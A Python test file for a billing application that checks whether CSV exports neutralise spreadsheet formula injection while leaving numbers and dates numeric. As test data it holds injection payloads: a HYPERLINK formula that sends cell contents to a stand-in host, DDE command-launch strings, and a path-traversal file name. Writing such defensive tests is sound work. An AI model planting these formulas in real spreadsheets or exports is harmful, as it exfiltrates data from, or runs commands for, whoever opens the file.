"""CSV downloads neutralise spreadsheet formulas (OWASP CSV injection): a text cell starting
with = + - @ tab or CR gets a leading single quote; numbers, money and dates stay as they are,
so a discount of -20.00 is still a number the reader can sum."""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from decimal import Decimal as D
from pathlib import Path

import polars as pl
import pytest

from billing.ar.review import CSV_COLUMNS as REVIEW_COLUMNS
from billing.ar.review import review_csv
from billing.export import invoice_csv
from billing.period import Period
from billing.store import (
    approve_draft,
    draft_lines,
    edit_line_description,
    list_drafts,
    save_drafts,
)
from core.csv_safe import frame_csv, neutralise, neutralise_frame, rows_csv
from read_models.exception_review import queue_csv
from tests.billing.firm import build, entry
from tests.conftest import ROOT
from ui import kpi_ui

HOSTILE = {
    '=HYPERLINK("http://evil.example/?"&A1)': '\'=HYPERLINK("http://evil.example/?"&A1)',
    "+1+cmd|' /C calc'!A0": "'+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)": "'@SUM(1+1)",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "Acme = best": "Acme = best",  # a formula character later in the text is harmless
    " =1": " =1",  # Excel does not evaluate a cell that starts with a space
    "": "",
}


@pytest.mark.parametrize("text", list(HOSTILE))
def test_the_rule_on_one_cell(text):
    assert neutralise(text) == HOSTILE[text]


def test_typed_values_are_not_text():
    for value in (D("-20.00"), -5, -1.5, date(2026, 3, 1), None, True):
        assert neutralise(value) == value


def test_frame_pass_matches_the_cell_rule_and_keeps_numbers():
    texts = list(HOSTILE) + [None]
    frame = pl.DataFrame(
        {
            "text": texts,
            "category": pl.Series(["-x"] * len(texts), dtype=pl.Categorical),
            "amount": pl.Series([D("-20.00")] * len(texts), dtype=pl.Decimal(18, 2)),
            "count": [-3] * len(texts),
        }
    )
    out = neutralise_frame(frame)
    assert out["text"].to_list() == [None if t is None else neutralise(t) for t in texts]
    assert out["category"].to_list() == ["'-x"] * len(texts)
    assert out["amount"].dtype == pl.Decimal(18, 2) and out["count"].to_list() == [-3] * len(texts)
    text = frame_csv(frame)
    assert text.splitlines()[1].startswith("\"'=HYPERLINK(") and text.splitlines()[1].endswith(
        ",'-x,-20.00,-3"
    )


def test_rows_csv_quotes_text_and_keeps_numbers():
    text = rows_csv(["name", "amount"], [["@evil", D("-20.00")], [None, -1]])
    assert list(csv.reader(io.StringIO(text))) == [
        ["name", "amount"],
        ["'@evil", "-20.00"],
        ["", "-1"],
    ]


MARCH = Period(2026, 3)
TIERED = """
contracts:
  - contract_id: C-1
    client_id: CL-1
    currency: USD
    po: {number: "+1-555-PO", limit: "90000.00"}
    workstreams:
      - project_id: PR-1
        billing: time_and_materials
        tiers:
          - {from_hours: 0, discount: "0"}
          - {from_hours: 10, discount: "0.10"}
"""


def test_invoice_csv_neutralises_text_and_keeps_the_discount_a_number(con, tmp_path):
    clients = """
        client_id,name,currency,payment_terms_days,tax_rate,status
        CL-1,"=HYPERLINK(""http://evil.example"")",USD,30,0,active
        CL-2,Globex,USD,30,0,active
        CL-3,Initech,EUR,30,0,active
        CL-0,Kestrel Partners,USD,,,internal
    """
    # 12 h x 100 = 1,200.00; hours 10-12 in the 10% band: 2 h x 100 x 10% = -20.00
    entries = entry("T-1", "P-2", "2026-03-02", "12", "PR-1")
    build(con, tmp_path, TIERED, "C-1,100.00,2026-01-01,,,,\n", entries, clients__csv=clients)
    save_drafts(con, MARCH, "ops")
    draft_id = list_drafts(con, MARCH).row(0, named=True)["draft_id"]
    time_line = next(x for x in draft_lines(con, draft_id).to_dicts() if x["kind"] == "time")
    edit_line_description(con, draft_id, time_line["line_no"], "@SUM(A1:A9) work", "dana")
    approve_draft(con, draft_id, "lee", issue_date=date(2026, 4, 2))
    rows = list(csv.DictReader(io.StringIO(invoice_csv(con, draft_id))))
    assert [r["client_name"] for r in rows] == ['\'=HYPERLINK("http://evil.example")'] * 2
    assert {r["po_number"] for r in rows} == {"'+1-555-PO"}
    by_kind = {r["kind"]: r for r in rows}
    assert by_kind["time"]["description"] == "'@SUM(A1:A9) work"
    assert by_kind["time"]["amount"] == "1200.00"
    assert by_kind["discount"]["amount"] == "-20.00"  # money: a number, not neutralised
    assert by_kind["discount"]["unit_price"].startswith("-0.1")  # the discount rate, a number
    assert by_kind["time"]["total"] == "1180.00"


def test_ar_review_csv_neutralises_notes_and_names():
    row = {c: None for c in REVIEW_COLUMNS}
    text_columns = [c for c in REVIEW_COLUMNS if c in ("note", "client_name", "owner")]
    assert text_columns, REVIEW_COLUMNS
    row |= {c: "=1+1" for c in text_columns} | {"open": D("-12.50")}  # a credit balance
    frame = pl.DataFrame([row], schema_overrides={"open": pl.Decimal(18, 2)}, strict=False)
    out = next(csv.DictReader(io.StringIO(review_csv(frame))))
    assert all(out[c] == "'=1+1" for c in text_columns)
    assert out["open"] == "-12.50"


def test_exception_queue_csv_neutralises_text():
    queue = pl.DataFrame(
        {
            "exception_id": ["E-1"],
            "title": ["-1+1 leaked"],
            "refs": [["=A1", "T-2"]],
            "value": [D("-5.00")],
        }
    )
    out = next(csv.DictReader(io.StringIO(queue_csv(queue))))
    assert out == {
        "exception_id": "E-1",
        "title": "'-1+1 leaked",
        "refs": "'=A1;T-2",
        "value": "-5.00",
    }


def test_kpi_csv_button_serves_the_neutralised_csv(monkeypatch):
    served = {}
    monkeypatch.setattr(
        kpi_ui.st, "download_button", lambda label, data, **kw: served.update(data=data, **kw)
    )  # streamlit is the boundary: record what it would serve
    frame = pl.DataFrame({"person": ["@evil"], "hours": [-1.5]})
    kpi_ui.csv_button(frame, "utilization_../../P-1\\x_weeks", key="k")  # a person id from data
    data = served["data"]
    data = data() if callable(data) else data  # built on click (st.download_button's callable)
    assert data.decode() == "person,hours\n'@evil,-1.5\n"
    assert served["file_name"] == "utilization_.._.._P-1_x_weeks.csv"


APP_CODE = [
    "app.py",
    "ui/app_state.py",
    "ui/kpi_ui.py",
    "ui/kpi_drill.py",
    "pages",
    "metrics",
    "billing",
]


def test_no_download_writes_csv_around_the_neutraliser():
    """Every CSV a person downloads goes through core.csv_safe: no other app code calls
    polars' write_csv or the csv module's writers."""
    offenders = []
    for name in APP_CODE:
        path = ROOT / name
        for file in [path] if path.is_file() else sorted(Path(path).rglob("*.py")):
            text = file.read_text()
            if re.search(r"\.write_csv\(|\bwrite_csv\b(?!\w)|csv\.(writer|DictWriter)\(", text):
                offenders.append(str(file.relative_to(ROOT)))
    assert offenders == []
